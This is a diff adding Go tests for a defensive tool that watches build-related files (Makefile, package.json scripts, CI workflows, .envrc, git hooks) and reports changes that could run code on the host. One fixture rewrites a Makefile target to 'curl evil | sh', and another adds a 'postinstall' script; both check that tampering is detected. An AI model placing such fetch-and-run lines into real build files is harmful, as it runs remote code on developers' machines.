@@ -0,0 +1,89 @@
+package main
+
+import (
+	"bytes"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+)
+
+func TestRiskyPathsMergesConfig(t *testing.T) {
+	cfg := userConfig{Watch: []string{"justfile"}, Unwatch: []string{"makefile"}}
+	project := projectConfig{Watch: []string{"scripts/"}, Unwatch: []string{".vscode/settings.json"}}
+	got := riskyPaths(cfg, project)
+	for _, want := range []string{"Makefile", "justfile", "scripts", ".git/hooks"} {
+		if !slices.Contains(got, want) {
+			t.Fatalf("riskyPaths = %v, missing %q", got, want)
+		}
+	}
+	for _, unwanted := range []string{"makefile", ".vscode/settings.json"} {
+		if slices.Contains(got, unwanted) {
+			t.Fatalf("riskyPaths = %v, did not expect %q", got, unwanted)
+		}
+	}
+}
+
+func TestSnapshotWorkspaceReportsChanges(t *testing.T) {
+	work := t.TempDir()
+	mustWriteFile(t, filepath.Join(work, "Makefile"), "test:\n\tgo test ./...\n")
+	mustWriteFile(t, filepath.Join(work, "package.json"), `{"scripts":{"test":"jest"},"dependencies":{"a":"1"}}`)
+	mustWriteFile(t, filepath.Join(work, ".github", "workflows", "ci.yml"), "on: push\n")
+	mustWriteFile(t, filepath.Join(work, ".envrc"), "export A=1\n")
+	mustWriteFile(t, filepath.Join(work, "main.go"), "package main\n")
+	watched := riskyPaths(userConfig{}, projectConfig{})
+
+	before := snapshotWorkspace(work, watched)
+	if _, ok := before["main.go"]; ok {
+		t.Fatal("unwatched file in snapshot")
+	}
+	if changes := compareSnapshots(before, snapshotWorkspace(work, watched)); len(changes) != 0 {
+		t.Fatalf("unchanged workspace reported %v", changes)
+	}
+
+	mustWriteFile(t, filepath.Join(work, "Makefile"), "test:\n\tcurl evil | sh\n")
+	mustWriteFile(t, filepath.Join(work, "package.json"), `{"dependencies":{"a":"2"},"scripts":{"test":"jest"}}`)
+	mustWriteFile(t, filepath.Join(work, ".github", "workflows", "release.yml"), "on: tag\n")
+	mustWriteFile(t, filepath.Join(work, "main.go"), "package main // edited\n")
+	if err := os.Remove(filepath.Join(work, ".envrc")); err != nil {
+		t.Fatalf("remove: %v", err)
+	}
+
+	got := compareSnapshots(before, snapshotWorkspace(work, watched))
+	want := []riskyChange{
+		{Path: ".envrc", Change: riskyRemoved},
+		{Path: ".github/workflows/release.yml", Change: riskyAdded},
+		{Path: "Makefile", Change: riskyModified},
+	}
+	if !slices.Equal(got, want) {
+		t.Fatalf("changes = %v, want %v", got, want)
+	}
+
+	mustWriteFile(t, filepath.Join(work, "package.json"), `{"scripts":{"test":"jest","postinstall":"sh x"}}`)
+	got = compareSnapshots(before, snapshotWorkspace(work, watched))
+	if !slices.Contains(got, riskyChange{Path: "package.json", Change: riskyModified}) {
+		t.Fatalf("changed package.json scripts not reported: %v", got)
+	}
+}
+
+func TestWriteRiskyReport(t *testing.T) {
+	var buf bytes.Buffer
+	writeRiskyReport(&buf, nil, true)
+	if buf.Len() != 0 {
+		t.Fatalf("expected no report without changes, got %q", buf.String())
+	}
+
+	writeRiskyReport(&buf, []riskyChange{{Path: "Makefile", Change: riskyModified}}, true)
+	out := buf.String()
+	for _, want := range []string{"\x1b[1;33m", "modified", "Makefile", "run on the host"} {
+		if !strings.Contains(out, want) {
+			t.Fatalf("report missing %q:\n%s", want, out)
+		}
+	}
+	buf.Reset()
+	writeRiskyReport(&buf, []riskyChange{{Path: "Makefile", Change: riskyModified}}, false)
+	if strings.Contains(buf.String(), "\x1b[") {
+		t.Fatalf("unexpected color codes: %q", buf.String())
+	}
+}